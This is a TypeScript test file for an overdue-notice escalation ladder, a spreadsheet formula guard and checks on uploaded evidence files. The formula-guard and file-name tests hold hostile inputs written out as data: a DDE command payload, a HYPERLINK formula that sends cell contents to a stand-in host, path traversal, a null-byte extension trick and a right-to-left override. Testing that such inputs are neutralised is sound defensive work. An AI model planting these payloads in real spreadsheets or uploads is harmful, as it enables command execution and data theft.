import { describe, expect, it } from "vitest";
import { ladderStep } from "./notice-ladder";
import { neutraliseCell } from "./formula-guard";
import { attachmentDisposition, cleanFileName, sniffEvidenceType } from "./file-sniff";

describe("the 黄/橙/红 ladder", () => {
  it("climbs by days overdue", () => {
    expect(ladderStep(0, 0, "2018-04-01")).toEqual({ kind: "reminder", level: "yellow", responseDue: "2018-04-11" });
    expect(ladderStep(15, 0, "2018-04-01").level).toBe("yellow");
    expect(ladderStep(16, 0, "2018-04-01")).toEqual({ kind: "supervision", level: "orange", responseDue: "2018-04-08" });
    expect(ladderStep(31, 0, "2018-04-01")).toEqual({ kind: "supervision", level: "red", responseDue: "2018-04-06" });
  });
  it("climbs one step per earlier notice, capped at red", () => {
    expect(ladderStep(3, 1, "2018-04-01").level).toBe("orange");
    expect(ladderStep(3, 2, "2018-04-01").level).toBe("red");
    expect(ladderStep(20, 5, "2018-04-01").level).toBe("red");
  });
});

describe("formula guard", () => {
  it("prefixes every trigger with a quote and leaves other text alone", () => {
    for (const text of ["=cmd|'/c calc'!A1", '=HYPERLINK("http://x/?"&A1)', "+1+1", "-2+3", "@SUM(1)", "\tx", "\rx", "\nx"]) {
      expect(neutraliseCell(text)).toBe(`'${text}`);
    }
    expect(neutraliseCell("完成 95%")).toBe("完成 95%");
    expect(neutraliseCell("")).toBe("");
  });
});

describe("evidence files", () => {
  it("sniffs by magic bytes and refuses the rest", () => {
    expect(sniffEvidenceType(Buffer.from("%PDF-1.7 ..."))?.extension).toBe("pdf");
    expect(sniffEvidenceType(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0]))?.extension).toBe("png");
    expect(sniffEvidenceType(Buffer.from([0xff, 0xd8, 0xff, 0xe0]))?.extension).toBe("jpg");
    expect(sniffEvidenceType(Buffer.from("MZ\x90\x00"))).toBeNull();
    expect(sniffEvidenceType(Buffer.from("PK\x03\x04garbage"))).toBeNull();
    expect(sniffEvidenceType(Buffer.alloc(0))).toBeNull();
  });
  it("keeps names as metadata only and builds an RFC 6266 header", () => {
    expect(cleanFileName("..\\..\\win.ini", "pdf")).toBe("win.ini");
    expect(cleanFileName("a.docx\u0000.exe", "docx")).toBe("a.docx.exe");
    expect(cleanFileName("\u202ecod.exe", "pdf")).toBe("cod.exe");
    expect(cleanFileName("x".repeat(300), "pdf")).toHaveLength(200);
    expect(attachmentDisposition("证明.pdf")).toBe("attachment; filename=\"__.pdf\"; filename*=UTF-8''%E8%AF%81%E6%98%8E.pdf");
    expect(attachmentDisposition('a"b;c.pdf')).toBe("attachment; filename=\"a_b_c.pdf\"; filename*=UTF-8''a%22b%3Bc.pdf");
  });
});
